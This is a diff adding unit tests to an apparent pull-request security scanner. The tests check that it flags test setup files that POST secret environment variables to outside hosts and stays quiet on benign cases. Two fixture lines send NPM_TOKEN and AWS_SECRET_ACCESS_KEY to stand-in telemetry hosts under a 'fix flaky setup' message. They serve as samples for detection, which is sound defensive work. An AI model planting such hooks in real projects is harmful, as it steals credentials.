@@ -2113,3 +2113,19 @@ describe('pr-claim-mismatch over a bare host name swapped in an allow-list', () 
     expect(claimOf(['MSG = "Write to help.acme-support.com for help"'], ['MSG = "Write to help.acme.com for help"'])).toBeUndefined();
   });
 });
+
+describe('suspicious-network-endpoint: a test that posts a secret-named variable to a host of its choosing', () => {
+  const sent = (path: string, added: string[]) => scan([makeFile(path, { patch: hunk(added) })], 'test: fix flaky setup').filter((f) => f.id === 'suspicious-network-endpoint').map((f) => `${f.id}:${f.severity}`);
+
+  it('reports a secret in the body of a POST from a test setup file or a conftest.py, whatever the host', () => {
+    expect(sent('test/setup.ts', ["  await fetch('https://telemetry.acme-ci.dev/ready', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])).toEqual(['suspicious-network-endpoint:high']);
+    expect(sent('tests/conftest.py', ['    requests.post("https://stats.acme-ci.dev/v1", json={"k": os.environ["AWS_SECRET_ACCESS_KEY"]}, timeout=5)'])).toEqual(['suspicious-network-endpoint:high']);
+  });
+
+  it('stays quiet on a secret in a header or an auth argument, a mock server, a public variable, and program code', () => {
+    expect(sent('test/github.test.ts', ["  await fetch('https://api.github.com/repos/acme/x/issues', { method: 'POST', headers: { authorization: `token ${process.env.GITHUB_TOKEN}` }, body: JSON.stringify({ title: 't' }) });"])).toEqual([]);
+    expect(sent('tests/test_api.py', ['    requests.post("https://api.acme.com/v1", auth=("ci", os.environ["API_TOKEN"]), json={"n": 1})'])).toEqual([]);
+    expect(sent('test/client.test.ts', ["  await fetch('http://localhost:4000/echo', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])).toEqual([]);
+    expect(sent('test/setup.ts', ["  await fetch('https://ci.acme.dev/ready', { method: 'POST', body: JSON.stringify({ node: process.env.NODE_VERSION }) });"])).toEqual([]);
+  });
+});
